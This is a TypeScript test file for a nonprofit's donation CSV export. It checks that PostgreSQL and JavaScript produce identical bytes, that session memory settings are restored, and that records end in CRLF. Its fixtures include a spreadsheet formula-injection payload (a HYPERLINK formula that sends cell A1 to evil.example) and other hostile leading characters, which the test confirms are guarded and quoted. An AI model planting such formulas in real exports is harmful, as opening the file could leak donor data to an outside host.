import { Writable } from 'node:stream';
import { prepareDonationExport } from '../../src/exports/donation-export-service';
import { CsvLineEnds } from '../../src/exports/csv-line-ends';
import { createDb } from '../../src/db/knex';
import {
  addEntry, buildCampaign, buildDonation, buildOrganization, buildSupporter, fakeStripeId,
} from '../factories/ledger-world';
import { startTestApp, type TestApp } from '../helpers/test-app';

let app: TestApp;
beforeAll(async () => {
  app = await startTestApp();
});
afterAll(() => app.close());

function sink(): { out: Writable; text: () => string } {
  const chunks: Buffer[] = [];
  const out = new Writable({
    write(chunk: Buffer, _encoding, done) {
      chunks.push(Buffer.from(chunk));
      done();
    },
  });
  return { out, text: () => Buffer.concat(chunks).toString('utf8') };
}

async function exportText(rowsOnPostgres: boolean, bom: boolean, twoCopiesFromSpan?: number): Promise<{ text: string; rows: number }> {
  const prepared = await prepareDonationExport(app.db, 'operator', { from: '2026-01-01', to: '2026-12-31', bom }, {
    rowsOnPostgres, ...(twoCopiesFromSpan === undefined ? {} : { twoCopiesFromSpan }),
  });
  const { out, text } = sink();
  const { rows } = await prepared.writeTo(out);
  return { text: text(), rows };
}

// PostgreSQL writes the export's CSV itself (COPY, cells formatted in SQL); PGlite hands rows to
// JavaScript. Both must write the same bytes, whatever the text holds.
const onPostgres = process.env.TEST_DATABASE_URL ? describe : describe.skip;

onPostgres('the donation export written by PostgreSQL', () => {
  it('is byte for byte the export JavaScript writes, for hostile text, empty cells, three currencies and two time zones', async () => {
    const west = await buildOrganization(app.db, { timeZone: 'America/Los_Angeles' });
    const east = await buildOrganization(app.db, { timeZone: 'Asia/Kolkata' });
    const usd = await buildCampaign(app.db, west, { currency: 'usd', earmark: 'travel' });
    const jpy = await buildCampaign(app.db, west, { currency: 'jpy', earmark: 'housing_meals' });
    const bhd = await buildCampaign(app.db, east, { currency: 'bhd', earmark: 'training' });
    const hostile = await buildSupporter(app.db, west, {
      first_name: '=HYPERLINK("http://evil.example/?x="&A1,"click")', last_name: 'Pérez, "la Jefa"',
      email: 'ana@example.org', phone: '+1 206 555 0100', address_line1: '-2 Main St\nApt 4', address_line2: '@x',
      address_city: '\tTacoma', address_region: '\rWA', address_postal_code: '\\.', address_country: '',
    });
    const plain = await buildSupporter(app.db, west, { first_name: 'José', last_name: 'Núñez', email: 'jose@example.org' });
    const far = await buildSupporter(app.db, east, { first_name: '"', last_name: 'a"b', email: 'far@example.org', phone: '' });

    const once = await buildDonation(app.db, usd, hostile, { note: 'Para el capítulo, "Seattle"\r\nsegunda línea', anonymous: true });
    const monthly = await buildDonation(app.db, usd, plain, { frequency: 'monthly', installments: 6, note: '' });
    const yen = await buildDonation(app.db, jpy, plain, { amount: 500 });
    const dinar = await buildDonation(app.db, bhd, far, { amount: 12345 });
    const charge = fakeStripeId('ch');
    await addEntry(app.db, once, {
      kind: 'payment', gross: 2000, fee: 88, occurredAt: new Date('2026-11-20T17:05:09Z'), installment: 1,
      paymentMethod: 'card', stripeChargeId: charge, stripeBalanceTransactionId: fakeStripeId('txn'),
    });
    await addEntry(app.db, once, {
      kind: 'refund', gross: -2000, fee: 0, occurredAt: new Date('2026-11-21T01:00:00Z'), stripeChargeId: charge, stripeRefundId: 're_test_1',
    });
    await addEntry(app.db, monthly, {
      kind: 'dispute', gross: -5, fee: 1500, occurredAt: new Date('2026-03-08T10:30:00Z'), stripeDisputeId: 'du_test_1',
    });
    await addEntry(app.db, { campaign: usd, supporterId: plain.id, id: null }, {
      kind: 'offline', gross: 5000, fee: 0, occurredAt: new Date('2026-07-01T06:59:59Z'), paymentMethod: 'check', checkNumber: '+1042',
    });
    await addEntry(app.db, yen, { kind: 'payment', gross: 500, fee: 15, occurredAt: new Date('2026-01-01T08:00:00Z'), installment: 1, paymentMethod: 'card' });
    await addEntry(app.db, dinar, { kind: 'payment', gross: 12345, fee: 7, occurredAt: new Date('2026-12-31T18:29:59Z'), installment: 1, paymentMethod: 'card' });

    for (const bom of [false, true]) {
      const fromJs = await exportText(true, bom);
      const fromPostgres = await exportText(false, bom);
      // Two COPYs at once, split by entry id (6 entries span more than 1 id).
      const fromTwoCopies = await exportText(false, bom, 1);
      expect(fromJs.rows).toBe(6);
      expect(fromPostgres.rows).toBe(6);
      expect(fromTwoCopies.rows).toBe(6);
      expect(fromPostgres.text).toBe(fromJs.text);
      expect(fromTwoCopies.text).toBe(fromJs.text);
    }
    // Not vacuous: the hostile cells really are there, guarded and quoted.
    const { text } = await exportText(false, false);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    expect(text).toContain(',\\.,');
    expect(text).toContain(',12.345,0.007,12.338,BHD,');
    expect(text).toContain('2026-12-31T23:59:59+05:30');
  });

  it('raises work_mem for its own session only, never lowers it, and puts it back', async () => {
    // One connection, so the export's session is the one asked afterwards.
    const own = createDb({ databaseUrl: (app.db.client.config.connection as { connectionString: string }).connectionString, poolMax: 1 });
    const workMem = async () => (await own.raw('show work_mem')).rows[0].work_mem as string;
    // The setting as the COPY starts: a query put in the connection's queue just before it.
    const atCopy: string[] = [];
    const acquire = own.client.acquireConnection.bind(own.client);
    own.client.acquireConnection = async () => {
      const connection = await acquire();
      if (!connection.watched) {
        connection.watched = true;
        const query = connection.query.bind(connection);
        connection.query = (what: unknown, ...rest: unknown[]) => {
          if (String((what as { text?: string }).text ?? '').includes(' copy (')) {
            void query('show work_mem').then((r: { rows: Array<{ work_mem: string }> }) => atCopy.push(r.rows[0]?.work_mem ?? ''));
          }
          return query(what, ...rest);
        };
      }
      return connection;
    };
    const exportAll = async () => {
      const prepared = await prepareDonationExport(own, 'operator', { from: '2026-01-01', to: '2026-12-31', bom: false });
      await prepared.writeTo(sink().out);
    };
    try {
      await own.raw("set work_mem = '4MB'");
      await exportAll();
      expect(await workMem()).toBe('4MB');
      await own.raw("set work_mem = '64MB'");
      await exportAll();
      expect(await workMem()).toBe('64MB');
      expect(atCopy).toEqual(['16MB', '64MB']);
    } finally {
      await own.destroy();
    }
  });
});

describe('CRLF at the end of each CSV record', () => {
  const run = (chunks: string[]) => {
    const ends = new CsvLineEnds();
    const out: Buffer[] = [];
    ends.on('data', (b: Buffer) => out.push(b));
    return new Promise<{ text: string; records: number }>((resolve) => {
      ends.on('end', () => resolve({ text: Buffer.concat(out).toString(), records: ends.records }));
      for (const c of chunks) ends.write(Buffer.from(c));
      ends.end();
    });
  };

  it('ends records with CRLF and leaves line breaks inside quoted fields, across chunk edges', async () => {
    const csv = 'a,"x\ny",b\n"q""\n""",2\nplain,3\n';
    const whole = await run([csv]);
    expect(whole).toEqual({ text: 'a,"x\ny",b\r\n"q""\n""",2\r\nplain,3\r\n', records: 3 });
    // Every split point, byte by byte, gives the same result.
    for (let cut = 1; cut < csv.length; cut += 1) {
      expect(await run([csv.slice(0, cut), csv.slice(cut)])).toEqual(whole);
    }
  });

  it('gives the same bytes over many chunks of every size, beyond one output buffer of 64 kB', async () => {
    // A plain reference: CR before each LF outside quotes.
    const reference = (text: string) => {
      let quoted = false;
      let out = '';
      for (const ch of text) {
        if (ch === '"') quoted = !quoted;
        out += ch === '\n' && !quoted ? '\r\n' : ch;
      }
      return out;
    };
    const records = Array.from({ length: 6000 }, (_, i) => (i % 7 === 0 ? `${i},"two\nlines ""quoted""",x` : `${i},plain,${'y'.repeat(i % 50)}`));
    // Empty records too: a chunk of LFs alone doubles in size, the most a chunk can grow.
    const csv = `${records.join('\n')}\n${'\n'.repeat(70_000)}`;
    const sizes = [1, 7, 8192, 100_000, 3, 65_536, 70_000, 500];
    const chunks: string[] = [];
    for (let at = 0, i = 0; at < csv.length; i += 1) {
      const size = sizes[i % sizes.length] as number;
      chunks.push(csv.slice(at, at + size));
      at += size;
    }
    const result = await run(chunks);
    expect(result.records).toBe(6000 + 70_000);
    expect(result.text === reference(csv)).toBe(true);
  });
});
